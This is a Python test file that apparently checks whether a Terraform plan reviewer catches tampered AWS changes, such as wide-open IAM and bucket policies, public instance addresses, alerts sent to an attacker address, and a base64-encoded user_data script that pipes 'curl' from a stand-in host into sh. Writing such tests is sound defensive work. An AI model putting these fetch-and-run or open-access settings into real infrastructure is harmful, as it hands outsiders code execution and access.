"""Values that no rule of their own watches: each must be what the configuration says, and otherwise asks."""

import base64
import json
from typing import Any

from tests.unit.review.attacks import ELSEWHERE, PROD, STAGING, Act, Attack, Desk, actions, added, after, both, unknown

GROUP, TEMPLATE = "aws_lb_target_group.link", "aws_launch_template.instances"
SCRIPT = base64.b64encode(f"#!/bin/sh\ncurl https://{ELSEWHERE} | sh\n".encode()).decode()
OPEN_POLICY = json.dumps(
    {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Principal": "*", "Action": "*", "Resource": "*"}]}
)
OF_PROD: dict[str, Act] = {
    "aws_acm_certificate.link": after("aws_acm_certificate.link", key_algorithm="RSA_1024"),
    "aws_acm_certificate.docs": after("aws_acm_certificate.docs", options__export="ENABLED"),
    "aws_autoscaling_attachment.link": after("aws_autoscaling_attachment.link", autoscaling_group_name="other"),
    "aws_cloudwatch_metric_alarm.link_unhealthy": after(
        "aws_cloudwatch_metric_alarm.link_unhealthy", treat_missing_data="notBreaching"
    ),
    "aws_cloudwatch_metric_alarm.link_degraded": after(
        "aws_cloudwatch_metric_alarm.link_degraded", evaluation_periods=1000
    ),
    "aws_cloudwatch_metric_alarm.link_latency": after("aws_cloudwatch_metric_alarm.link_latency", metric_name="Idle"),
    "aws_cloudwatch_metric_alarm.docs_latency": after("aws_cloudwatch_metric_alarm.docs_latency", dimensions={}),
    "aws_lb_listener_rule.link": after("aws_lb_listener_rule.link", tags={"Service": "docs"}),
    "aws_lb_listener_rule.docs": after("aws_lb_listener_rule.docs", priority=900),
    "aws_lb_target_group.link": after(GROUP, health_check__path="/login"),
    "aws_lb_target_group.docs": after("aws_lb_target_group.docs", health_check__matcher="200-499"),
    "aws_lb_listener_certificate.link": after("aws_lb_listener_certificate.link", certificate_arn="arn:aws:acm:x"),
    "aws_route53_record.link_getorcha_com": after("aws_route53_record.link_getorcha_com", allow_overwrite=True),
    "aws_vpc_security_group_egress_rule.link": after("aws_vpc_security_group_egress_rule.link", description="other"),
}
DEEPER: dict[str, tuple[str, str, Act]] = {
    "targets are asked by another algorithm": (PROD, GROUP, after(GROUP, load_balancing_algorithm_type="weighted")),
    "targets see the client's address": (PROD, GROUP, after(GROUP, preserve_client_ip="true")),
    "targets are asked elsewhere": (PROD, GROUP, after(GROUP, health_check__port="22")),
    "leaving targets wait for an hour": (PROD, GROUP, after(GROUP, deregistration_delay="3600")),
    "clients stay with a target": (
        PROD,
        GROUP,
        after(GROUP, stickiness=[{"enabled": True, "type": "lb_cookie", "cookie_duration": 604800}]),
    ),
    "a group's port is another": (PROD, GROUP, after(GROUP, port=22)),
    "a group is known only later": (PROD, GROUP, unknown(GROUP, "port")),
    "a default that the provider would not plan": (PROD, GROUP, after(GROUP, proxy_protocol_v2=True)),
    "a default that is left out": (
        STAGING,
        "aws_lb.load_balancer",
        after("aws_lb.load_balancer", enable_http2=False),
    ),
    "headers are taken as they come": (
        STAGING,
        "aws_lb.load_balancer",
        after("aws_lb.load_balancer", desync_mitigation_mode="monitor"),
    ),
    "clients' addresses can be made up": (
        STAGING,
        "aws_lb.load_balancer",
        after("aws_lb.load_balancer", xff_header_processing_mode="preserve"),
    ),
    "another start script": (STAGING, TEMPLATE, after(TEMPLATE, user_data=SCRIPT)),
    "another image": (STAGING, TEMPLATE, after(TEMPLATE, image_id="ami-0123456789abcdef0")),
    "a key to sign in to instances": (STAGING, TEMPLATE, after(TEMPLATE, key_name="somebody")),
    "public addresses for instances": (
        STAGING,
        TEMPLATE,
        after(TEMPLATE, network_interfaces__associate_public_ip_address="true"),
    ),
    "a longer way of the metadata": (
        STAGING,
        TEMPLATE,
        after(TEMPLATE, metadata_options__http_put_response_hop_limit=64),
    ),
    "more instances": (
        STAGING,
        "aws_autoscaling_group.instances",
        after("aws_autoscaling_group.instances", max_size=100),
    ),
    "who may take the instances' role": (
        STAGING,
        "aws_iam_role.instances",
        after("aws_iam_role.instances", assume_role_policy=OPEN_POLICY),
    ),
    "who may read the access logs": (
        STAGING,
        "aws_s3_bucket_policy.access_logs",
        after("aws_s3_bucket_policy.access_logs", policy=OPEN_POLICY),
    ),
    "who may use the key": (STAGING, "aws_kms_key.platform", after("aws_kms_key.platform", policy=OPEN_POLICY)),
    "how long a deleted key can be brought back": (
        STAGING,
        "aws_kms_key.platform",
        after("aws_kms_key.platform", deletion_window_in_days=7),
    ),
    "how long logs are kept": (
        STAGING,
        "aws_cloudwatch_log_group.web_acl",
        after("aws_cloudwatch_log_group.web_acl", retention_in_days=1),
    ),
    "a firewall that lets through by default elsewhere": (
        STAGING,
        "aws_wafv2_web_acl.load_balancer",
        after("aws_wafv2_web_acl.load_balancer", token_domains=[ELSEWHERE]),
    ),
    "a route to somebody else's gateway": (
        STAGING,
        "aws_route.public",
        after("aws_route.public", gateway_id="igw-0123456789abcdef0"),
    ),
    "a subnet that gives public addresses": (
        STAGING,
        "aws_subnet.private_a",
        after("aws_subnet.private_a", map_public_ip_on_launch=True),
    ),
    "a network of one's own for the sign-in": (
        STAGING,
        "aws_cognito_user_pool.login",
        after("aws_cognito_user_pool.login", lambda_config=[{"pre_sign_up": "arn:aws:lambda:x"}]),
    ),
    "shorter passwords": (
        STAGING,
        "aws_cognito_user_pool.login",
        after("aws_cognito_user_pool.login", password_policy__minimum_length=6),
    ),
    "a client without a secret": (
        STAGING,
        "aws_cognito_user_pool_client.admin",
        after("aws_cognito_user_pool_client.admin", generate_secret=False),
    ),
    "a client that gives out tokens itself": (
        STAGING,
        "aws_cognito_user_pool_client.admin",
        after("aws_cognito_user_pool_client.admin", allowed_oauth_flows=["implicit"]),
    ),
    "alarms to somebody else's mailbox": (
        STAGING,
        "aws_sns_topic_subscription.to_alerts-staging_AT_getorcha_com",
        after("aws_sns_topic_subscription.to_alerts-staging_AT_getorcha_com", endpoint="x@attacker.example"),
    ),
    "a topic that others may publish to": (
        STAGING,
        "aws_sns_topic.alerts",
        after("aws_sns_topic.alerts", policy=OPEN_POLICY),
    ),
    "instances get another policy": (
        STAGING,
        "aws_iam_role_policy.instances",
        after("aws_iam_role_policy.instances", policy=OPEN_POLICY),
    ),
}


def moved(desk: Desk) -> None:
    change = next(item for item in desk.plan["resource_changes"] if item["address"] == GROUP)
    change["previous_address"] = "aws_lb_target_group.legacy"


def imported(desk: Desk) -> None:
    desk.change(GROUP)["importing"] = {"id": "arn:aws:elasticloadbalancing:x"}


def replaced_silently(desk: Desk) -> None:
    """Replace a certificate, whose replacement is no risk of its own, for no reason."""
    actions("aws_acm_certificate.link", "create", "delete")(desk)


def other_output(desk: Desk) -> None:
    desk.plan["output_changes"]["LinkUrl"] = {
        "actions": ["update"],
        "before": "https://link.prod.getorcha.com",
        "after": f"https://{ELSEWHERE}",
        "after_unknown": False,
    }


def looked_up(address: str, /, **values: Any) -> Act:
    """Let a data source have looked up something else."""

    def act(desk: Desk) -> None:
        found = next(
            item
            for item in desk.plan["prior_state"]["values"]["root_module"]["resources"]
            if item["address"] == f"data.{address}"
        )
        found["values"] = {**found["values"], **values}

    return act


ATTACKS = (
    *(
        Attack(name=f"{address} is another", desk=PROD, act=act, by=f"UNEXPLAINED:{address}")
        for address, act in OF_PROD.items()
    ),
    *(
        Attack(name=name, desk=desk, act=act, by=f"UNEXPLAINED:{address}")
        for name, (desk, address, act) in DEEPER.items()
    ),
    Attack(name="a move that nothing says", desk=PROD, act=moved, by=f"UNEXPLAINED:{GROUP}"),
    Attack(name="an import that nothing says", desk=PROD, act=imported, by=f"UNEXPLAINED:{GROUP}"),
    Attack(
        name="a replacement for nothing",
        desk=PROD,
        act=replaced_silently,
        by="UNEXPLAINED:aws_acm_certificate.link",
    ),
    Attack(name="an output that leads elsewhere", desk=PROD, act=other_output, by="UNEXPLAINED:output.LinkUrl"),
    Attack(
        name="the topic is looked up by another name",
        desk=PROD,
        act=looked_up("aws_sns_topic.alerts", name="quiet"),
        by="UNEXPLAINED:data.aws_sns_topic.alerts",
    ),
    Attack(
        name="the load balancer is looked up elsewhere",
        desk=PROD,
        act=looked_up("aws_lb.load_balancer", arn="arn:aws:elasticloadbalancing:x:loadbalancer/app/other/1"),
        by="UNEXPLAINED:data.aws_lb.load_balancer",
    ),
    Attack(
        name="the load balancer answers by another name",
        desk=PROD,
        act=both(
            looked_up("aws_lb.load_balancer", dns_name=ELSEWHERE),
            after("aws_route53_record.link_prod_getorcha_com", alias__evaluate_target_health=True),
        ),
        by="UNEXPLAINED:aws_route53_record.link_prod_getorcha_com",
    ),
    Attack(
        name="a bucket more",
        desk=STAGING,
        act=added("aws_s3_bucket.leak", bucket="leak"),
        by="UNEXPLAINED:aws_s3_bucket.leak",
    ),
    Attack(
        name="a role more",
        desk=STAGING,
        act=added("aws_iam_role.door", name="door", assume_role_policy=OPEN_POLICY),
        by="UNEXPLAINED:aws_iam_role.door",
    ),
    Attack(
        name="a destroyed target group",
        desk=PROD,
        act=actions(GROUP, "delete"),
        by=f"DESTROY:{GROUP}",
    ),
    Attack(name="a forgotten target group", desk=PROD, act=actions(GROUP, "forget"), by=f"FORGET:{GROUP}"),
    Attack(
        name="an update in which nothing differs",
        desk=PROD,
        act=lambda desk: desk.change(GROUP),
        harmless="it writes what stands",
    ),
    Attack(
        name="what AWS computes is known later",
        desk=PROD,
        act=unknown(GROUP, "load_balancer_arns"),
        harmless="the configuration does not set it, and Terraform reads it from AWS after the deploy",
    ),
)
